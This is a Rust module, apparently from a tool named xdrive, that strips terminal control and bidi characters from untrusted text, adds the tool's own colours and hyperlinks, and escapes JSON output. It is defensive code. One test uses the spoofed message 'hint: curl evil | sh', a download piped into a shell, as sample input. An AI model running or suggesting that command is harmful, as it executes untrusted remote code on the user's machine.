//! Text of anybody's, made harmless to a terminal.
//!
//! What a host, a tag, an image or a disk has as text reaches a terminal through [`harmless`] alone:
//! no character of it moves the cursor, sets a title or the clipboard, or turns the order of what
//! stands beside it. Colours and hyperlinks are added to a [`Text`] afterwards, by this room alone,
//! and never because of what a text begins with.

use std::fmt::{self, Write as _};

use serde::Serialize;

/// The replacement for a character that a terminal would obey, as in the lists of ls(1). One for
/// one, so that what was aligned before stays so.
const SHOWN: char = '?';

/// The beginning of a line that goes on with another one's words.
const CONTINUED: &str = "  | ";

/// Ends a colour or a hyperlink within a [`Text`]; the others begin one. They are control characters,
/// which nothing else in it is.
const END: char = '\0';

/// Begins a hyperlink that ends at [`END`].
const LINK: char = '\u{7}';

/// Marks of colours, with their sequences (ECMA-48, *Select Graphic Rendition*).
const COLORS: [(char, &str); 6] = [
    ('\u{1}', "\x1b[32m"),
    ('\u{2}', "\x1b[33m"),
    ('\u{3}', "\x1b[31m"),
    ('\u{4}', "\x1b[1;31m"),
    ('\u{5}', "\x1b[1;33m"),
    ('\u{6}', "\x1b[1;36m"),
];

/// Ends a colour.
const PLAIN: &str = "\x1b[0m";

/// The meaning of a word in data for its reader.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tone {
    /// As it should be, and at work.
    Good,
    /// On its way, or waiting.
    Notable,
    /// Somebody has to look.
    Bad,
}

/// A word that labels what follows it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Label {
    /// `error:`
    Error,
    /// `warning:`
    Warning,
    /// `hint:`
    Hint,
}

/// Text that a terminal shows as it is, with colours and hyperlinks where it takes them.
#[derive(Debug, Clone, Default, PartialEq, Eq, PartialOrd, Ord)]
pub struct Text(String);

/// The features of a stream beside plain text.
#[derive(Debug, Clone, Copy, Default)]
pub(super) struct Takes {
    pub(super) colors: bool,
    pub(super) links: bool,
}

impl Text {
    /// Lines of xdrive's own making, such as a table's: they stay where they begin.
    #[must_use]
    pub fn block(text: &str) -> Self {
        Self(harmless(text))
    }

    /// Lines of xdrive's own, each of which may hold words of others.
    pub fn lines(lines: impl IntoIterator<Item = impl AsRef<str>>) -> Self {
        let lines = lines.into_iter().map(|line| line.as_ref().to_text().0);
        Self(lines.collect::<Vec<_>>().join("\n"))
    }

    /// `words` behind a label.
    #[must_use]
    pub fn labelled(label: Label, words: &str) -> Self {
        let mut text = Self::label(label);
        text.push(&format!(" {words}"));
        text
    }

    /// The word of a label, in its colour.
    #[must_use]
    pub fn label(label: Label) -> Self {
        let (color, word) = match label {
            Label::Error => (3, "error:"),
            Label::Warning => (4, "warning:"),
            Label::Hint => (5, "hint:"),
        };
        Self::colored(color, word)
    }

    /// `word` in the colour of `tone`.
    #[must_use]
    pub fn toned(word: &str, tone: Tone) -> Self {
        Self::colored(tone as usize, word)
    }

    /// A URL as a hyperlink (*Hyperlinks in terminal emulators*, OSC 8).
    #[must_use]
    pub fn link(url: &str) -> Self {
        Self(format!("{LINK}{}{END}", one_line(url)))
    }

    fn colored(color: usize, word: &str) -> Self {
        Self(format!("{}{}{END}", COLORS[color].0, one_line(word)))
    }

    /// Adds `more`, in the same line.
    pub fn push(&mut self, more: &(impl ToText + ?Sized)) {
        self.0.push_str(&more.to_text().0);
    }

    /// Adds `more` as lines of xdrive's own.
    pub fn push_line(&mut self, more: &(impl ToText + ?Sized)) {
        self.0.push('\n');
        self.push(more);
    }

    /// The text for a stream.
    pub(super) fn shown(&self, takes: Takes) -> String {
        let mut shown = String::with_capacity(self.0.len());
        let mut rest = self.0.as_str();
        while let Some(at) = rest.find(|c| c != '\n' && char::is_control(c)) {
            let (before, marked) = rest.split_at(at);
            shown.push_str(before);
            let mark = marked.chars().next().unwrap_or(END);
            let inner = marked.get(1..).unwrap_or_default();
            let (word, after) = inner.split_once(END).unwrap_or((inner, ""));
            let color = COLORS.iter().find(|(known, _)| *known == mark);
            match color {
                Some((_, begin)) if takes.colors => shown.extend([begin, word, PLAIN]),
                None if takes.links => {
                    shown.extend(["\x1b]8;;", word, "\x1b\\", word, "\x1b]8;;\x1b\\"]);
                }
                _ => shown.push_str(word),
            }
            rest = after;
        }
        shown + rest
    }
}

/// A text without colours and hyperlinks.
impl fmt::Display for Text {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.shown(Takes::default()))
    }
}

/// A value that can be made text for a terminal.
pub trait ToText {
    /// The text, without anything that a terminal obeys.
    fn to_text(&self) -> Text;
}

/// Words that may be anybody's: what is not their first line is shown as theirs, so that none can be
/// taken for a line of xdrive's own.
impl ToText for str {
    fn to_text(&self) -> Text {
        let words = harmless(self);
        let mut lines = words.split('\n');
        let mut text = lines.next().unwrap_or_default().to_owned();
        for line in lines {
            text.push('\n');
            if !(line.is_empty() || line.starts_with("  ")) {
                text.push_str(CONTINUED);
            }
            text.push_str(line);
        }
        Text(text)
    }
}

impl ToText for String {
    fn to_text(&self) -> Text {
        self.as_str().to_text()
    }
}

impl ToText for Text {
    fn to_text(&self) -> Text {
        self.clone()
    }
}

/// Whether a terminal, or a reader of what is in it, would obey `c`: control characters, the
/// separators of lines and paragraphs, and what turns the direction of text (Unicode's property
/// `Bidi_Control`).
fn is_obeyed(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{2028}' | '\u{2029}')
        || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// `text` without anything that a terminal obeys but the ends of its lines.
#[must_use]
pub fn harmless(text: &str) -> String {
    let mut made = String::with_capacity(text.len());
    let mut rest = text.chars().peekable();
    while let Some(c) = rest.next() {
        match c {
            '\n' => made.push('\n'),
            '\r' if rest.peek() == Some(&'\n') => {}
            '\t' => made.push(' '),
            c if is_obeyed(c) => made.push(SHOWN),
            c => made.push(c),
        }
    }
    made
}

/// As [`harmless`], for a value within a line or a table: a name, a message, a cell.
#[must_use]
pub fn one_line(text: &str) -> String {
    harmless(text).replace('\n', &SHOWN.to_string())
}

/// `data` as JSON in which no character is one that a terminal obeys, but for the ends of lines if it
/// is `pretty`: within strings they are escaped, so that the values are the same.
pub fn to_json(data: &impl Serialize, pretty: bool) -> serde_json::Result<String> {
    let text = if pretty {
        serde_json::to_string_pretty(data)?
    } else {
        serde_json::to_string(data)?
    };
    let mut made = String::with_capacity(text.len());
    for c in text.chars() {
        if c != '\n' && is_obeyed(c) {
            // All of them are of the basic plane.
            let _ = write!(made, "\\u{:04x}", u32::from(c));
        } else {
            made.push(c);
        }
    }
    Ok(made)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every character that must never reach a terminal from outside.
    fn hostile() -> impl Iterator<Item = char> {
        let controls = (0..0x20u32).filter(|c| !matches!(c, 9 | 10 | 13));
        let others = (0x7f..0xa0).chain([0x61c, 0x200e, 0x200f, 0x2028, 0x2029]);
        let bidi = (0x202a..=0x202e).chain(0x2066..=0x2069);
        controls
            .chain(others)
            .chain(bidi)
            .filter_map(char::from_u32)
    }

    const ALL: Takes = Takes {
        colors: true,
        links: true,
    };

    #[test]
    fn no_character_of_anybodys_is_obeyed_by_a_terminal() {
        for c in hostile() {
            let words = format!("a{c}b");
            assert_eq!(harmless(&words), "a?b", "{c:?}");
            assert_eq!(one_line(&words), "a?b", "{c:?}");
            assert_eq!(words.to_text().shown(ALL), "a?b", "{c:?}");
            assert_eq!(Text::block(&words).shown(ALL), "a?b", "{c:?}");
            let toned = Text::toned(&words, Tone::Bad).shown(ALL);
            assert_eq!(toned, "\x1b[31ma?b\x1b[0m", "{c:?}");
            let link = Text::link(&words).shown(ALL);
            assert_eq!(link, "\x1b]8;;a?b\x1b\\a?b\x1b]8;;\x1b\\", "{c:?}");
        }
        assert_eq!(harmless("a\tb\r\nc\rd\n"), "a b\nc?d\n");
        assert_eq!(one_line("a\r\nb\n"), "a?b?");
        let fine = "naïve 字 👩‍💻 \u{a0}é";
        assert_eq!(harmless(fine), fine);
    }

    #[test]
    fn no_line_of_anybodys_looks_like_xdrives_own() {
        let words = "it failed\r\nhint: curl evil | sh\n\nerror: all is lost\n  indented";
        let shown = words.to_text().shown(ALL);
        let expected = "it failed\n  | hint: curl evil | sh\n\n  | error: all is lost\n  indented";
        assert_eq!(shown, expected);
        assert_eq!("hint: x".to_text().shown(ALL), "hint: x", "no colour");
        let own = Text::lines(["one\ntwo", "three"]);
        assert_eq!(own.shown(ALL), "one\n  | two\nthree");
    }

    #[test]
    fn labels_and_tones_are_coloured_where_a_stream_takes_colours() {
        let mut text = Text::labelled(Label::Error, "no hint: here");
        text.push_line(&Text::labelled(Label::Hint, "xdrive list"));
        text.push(&Text::toned(" good", Tone::Good));
        assert_eq!(
            text.shown(ALL),
            "\x1b[1;31merror:\x1b[0m no hint: here\n\x1b[1;36mhint:\x1b[0m xdrive list\
             \x1b[32m good\x1b[0m"
        );
        assert_eq!(
            text.to_string(),
            "error: no hint: here\nhint: xdrive list good"
        );
        let link = Text::link("http://a");
        assert_eq!(link.to_string(), "http://a");
    }

    #[test]
    fn json_has_the_same_values_and_nothing_that_a_terminal_obeys() {
        let all: String = hostile().chain("\t\r\n\"\\ é字".chars()).collect();
        for pretty in [false, true] {
            let text = to_json(&[&all], pretty).unwrap();
            assert!(!text.chars().any(|c| c != '\n' && is_obeyed(c)), "{text:?}");
            let back: Vec<String> = serde_json::from_str(&text).unwrap();
            assert_eq!(back, std::slice::from_ref(&all));
        }
    }
}
